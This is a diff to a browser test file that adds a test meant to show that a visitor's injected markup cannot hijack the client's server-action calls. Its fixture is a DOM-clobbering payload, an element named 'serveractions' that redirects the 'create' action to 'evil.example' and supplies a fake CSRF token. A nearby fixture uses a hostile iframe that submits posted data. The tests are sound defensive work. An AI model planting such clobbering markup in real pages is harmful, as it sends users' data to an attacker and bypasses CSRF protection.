@@ -270,6 +270,25 @@ def test_hostile_docstrings_are_text_on_the_page_of_the_documentation(browser: B
         context.close()
 
 
+CLOBBERED = """<main><form name="scripts"><input name="serveractions" id="serveractions" data-token="evil"
+data-header="X-Evil" data-actions='{"create": "//evil.example/take"}'></form>
+<img name="serveractions" src="" alt=""><ul>{% for item in items %}<li>{{ item }}</li>{% endfor %}</ul></main>"""
+
+
+def test_markup_of_a_visitor_takes_the_place_of_no_part_of_the_client(
+    stage: Stage, page: Page, items: list[str]
+) -> None:
+    stage.page("/clobbered", CLOBBERED, scripts=["create"], items=lambda: list(items))
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    open_page(page, "/clobbered")
+    call = "async () => (await import('/_actions/client.js')).call('create', { text: 'a secret' })"
+    assert page.evaluate(call) == "a secret"
+    assert [url for url in asked if "evil" in url] == []
+    assert stage.calls[-1].headers["x-csrftoken"] != "evil"
+    assert items == ["a secret"]
+
+
 EVIL_PAGE = """<!doctype html><title>Evil</title><main></main>
 <iframe name="sandbox" sandbox="allow-forms allow-scripts" srcdoc="<script>
 onmessage = ({ data }) => { document.body.innerHTML = data; document.forms[0].submit(); }</script>"></iframe>"""
